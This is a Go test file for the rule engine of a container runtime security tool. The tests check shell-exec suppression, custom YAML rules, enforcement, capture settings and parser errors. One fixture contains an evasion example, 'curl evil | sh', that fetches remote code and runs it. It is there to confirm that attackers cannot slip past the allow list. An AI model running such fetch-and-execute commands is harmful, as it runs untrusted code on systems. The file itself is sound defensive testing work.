package rules

import (
	"os"
	"path/filepath"
	"strings"
	"testing"

	loupev1 "github.com/loupe-dev/loupe/api/v1"
)

func shell(ns, image string, argv []string, parent string) *loupev1.Finding {
	return &loupev1.Finding{
		Kind: loupev1.Kind_KIND_SHELL_EXEC, Severity: loupev1.Severity_SEVERITY_HIGH, Rule: "shell-exec",
		Container: &loupev1.ContainerRef{Namespace: ns, Pod: "p-1", Name: "c", Image: image},
		Process:   &loupev1.Process{Filename: argv[0], Argv: argv, Ancestors: []*loupev1.Ancestor{{Comm: parent}, {Comm: "containerd-shim"}}},
	}
}

func TestDefaultRules(t *testing.T) {
	s, err := Load("")
	if err != nil {
		t.Fatal(err)
	}
	entry := shell("web", "docker.io/library/nginx:1.27", []string{"/bin/sh", "/docker-entrypoint.sh", "nginx", "-g", "daemon off;"}, "containerd-shim")
	if d, r := s.Apply(entry); d != Suppressed || r != "known-entrypoint-shells" {
		t.Errorf("entrypoint shell: %v %q, want suppressed", d, r)
	}
	// The same script started from an interactive shell is not the container start.
	again := shell("web", "docker.io/library/nginx:1.27", []string{"/bin/sh", "/docker-entrypoint.sh"}, "bash")
	if d, _ := s.Apply(again); d != Report || again.Severity != loupev1.Severity_SEVERITY_HIGH {
		t.Errorf("entrypoint re-run from bash: %v %v, want reported unchanged", d, again.Severity)
	}
	// An attacker appending the entrypoint name does not get allow-listed.
	evade := shell("web", "x", []string{"/bin/sh", "-c", "curl evil | sh; /docker-entrypoint.sh"}, "containerd-shim")
	if d, _ := s.Apply(evade); d != Report {
		t.Errorf("evasion attempt suppressed")
	}
	ks := shell("kube-system", "x", []string{"/bin/sh"}, "runc")
	if d, r := s.Apply(ks); d != Report || ks.Severity != loupev1.Severity_SEVERITY_CRITICAL || ks.Rule != "kube-system-shell" || r != "kube-system-shell" {
		t.Errorf("kube-system: %v sev=%v rule=%q", d, ks.Severity, ks.Rule)
	}
}

func TestCustomRulesFirstMatchWinsAndDisabledKinds(t *testing.T) {
	dir := t.TempDir()
	path := filepath.Join(dir, "rules.yaml")
	os.WriteFile(path, []byte(`version: 1
disabled_kinds: [package, KIND_EXEC]
rules:
  - name: payments-critical
    kinds: [SHELL_EXEC]
    match: {namespace: payments, pod: "api-*"}
    severity: critical
  - name: payments-any
    match: {namespace: payments}
    severity: low
  - name: debug-ns
    match: {namespace: "debug-*", ancestor: "*/bash"}
    action: allow
`), 0o644)
	s, err := Load(path)
	if err != nil {
		t.Fatal(err)
	}
	f := shell("payments", "img", []string{"/bin/sh"}, "java")
	f.Container.Pod = "api-7d9f"
	if d, _ := s.Apply(f); d != Report || f.Severity != loupev1.Severity_SEVERITY_CRITICAL {
		t.Errorf("first rule should win: %v %v", d, f.Severity)
	}
	g := &loupev1.Finding{Kind: loupev1.Kind_KIND_DRIFT_FILE, Severity: loupev1.Severity_SEVERITY_MEDIUM,
		Container: &loupev1.ContainerRef{Namespace: "payments"}}
	if _, r := s.Apply(g); r != "payments-any" || g.Severity != loupev1.Severity_SEVERITY_LOW {
		t.Errorf("second rule: %q %v", r, g.Severity)
	}
	h := shell("debug-42", "img", []string{"/bin/ls"}, "sh")
	h.Process.Ancestors = append(h.Process.Ancestors, &loupev1.Ancestor{Filename: "/bin/bash"})
	if d, _ := s.Apply(h); d != Suppressed {
		t.Errorf("ancestor allow: %v", d)
	}
	for _, k := range []loupev1.Kind{loupev1.Kind_KIND_PACKAGE, loupev1.Kind_KIND_EXEC} {
		if d, _ := s.Apply(&loupev1.Finding{Kind: k}); d != Disabled {
			t.Errorf("%v: %v", k, d)
		}
	}
	if len(s.KillShells()) != 0 {
		t.Error("enforcement on without an enforce section")
	}
	if d, _ := s.Apply(&loupev1.Finding{Kind: loupev1.Kind_KIND_SHELL_EXEC}); d != Report {
		t.Error("SHELL_EXEC disabled")
	}
}

func TestEnforceSection(t *testing.T) {
	s, err := Parse([]byte("version: 1\nrules: []\nenforce:\n  kill_shells:\n    - {namespace: payments, pod: 'api-*'}\n    - {image: 'registry.example/distroless/*'}\n"), "r.yaml")
	if err != nil {
		t.Fatal(err)
	}
	if got := s.KillShells(); len(got) != 2 || got[0].Namespace != "payments" || got[1].Image != "registry.example/distroless/*" {
		t.Fatalf("KillShells = %+v", got)
	}
	if d, _ := Load(""); len(d.KillShells()) != 0 {
		t.Error("the default rules enforce")
	}
}

func TestBadRulesSayWhatIsWrong(t *testing.T) {
	cases := map[string]string{
		"version: 2\nrules: []": "version 2",
		"version: 1\nrules:\n  - kinds: [SHELL_EXEC]\n    severity: high":                    "needs a name",
		"version: 1\nrules:\n  - name: a\n    kinds: [NOPE]\n    severity: high":             `unknown kind "NOPE"`,
		"version: 1\nrules:\n  - name: a\n    severity: urgent":                              `unknown severity "urgent"`,
		"version: 1\nrules:\n  - name: a\n    action: deny":                                  `action "deny"`,
		"version: 1\nrules:\n  - name: a\n    action: allow\n    severity: low":              "cannot set a severity",
		"version: 1\nrules:\n  - name: a\n    match: {podd: x}\n    severity: low":           "unknown field",
		"version: 1\nrules:\n  - name: a\n    severity: low\n  - name: a\n    severity: low": "duplicate",
		"version: 1\nrules:\n  - name: a":                                                    "needs a severity",
		"{{{":                                                                                "rules.yaml",
	}
	for doc, want := range cases {
		_, err := Parse([]byte(doc), "rules.yaml")
		if err == nil || !strings.Contains(err.Error(), want) {
			t.Errorf("%q: error %v, want it to mention %q", doc, err, want)
		}
	}
	if _, err := Load(filepath.Join(t.TempDir(), "missing.yaml")); err == nil {
		t.Error("missing file accepted")
	}
	if _, err := Load(t.TempDir()); err == nil || !strings.Contains(err.Error(), "regular file") {
		t.Errorf("directory as rules file: %v", err)
	}
}

func FuzzParse(f *testing.F) {
	f.Add(DefaultYAML())
	f.Add([]byte("version: 1\nrules:\n  - name: a\n    match: {pod: '*'}\n    severity: low\n"))
	f.Fuzz(func(t *testing.T, b []byte) {
		s, err := Parse(b, "fuzz")
		if err != nil {
			return
		}
		s.Apply(&loupev1.Finding{Kind: loupev1.Kind_KIND_SHELL_EXEC, Process: &loupev1.Process{Argv: []string{"sh"}}})
	})
}

func TestCaptureSection(t *testing.T) {
	def, err := Load("")
	if err != nil {
		t.Fatal(err)
	}
	if err := def.MayCapture("payments"); err == nil || !strings.Contains(err.Error(), "disabled") {
		t.Errorf("default rules allow captures: %v", err)
	}
	s, err := Parse([]byte("version: 1\nrules: []\ncapture:\n  enabled: true\n  namespaces: [payments, \"team-*\"]\n"), "t")
	if err != nil {
		t.Fatal(err)
	}
	for ns, ok := range map[string]bool{"payments": true, "team-a": true, "kube-system": false, "": false, "payments-x": false} {
		if err := s.MayCapture(ns); (err == nil) != ok {
			t.Errorf("MayCapture(%q) = %v, want allowed=%v", ns, err, ok)
		}
	}
	if _, err := Parse([]byte("version: 1\nrules: []\ncapture:\n  enabled: true\n"), "t"); err == nil || !strings.Contains(err.Error(), "capture.namespaces") {
		t.Errorf("enabled without namespaces: %v", err)
	}
}
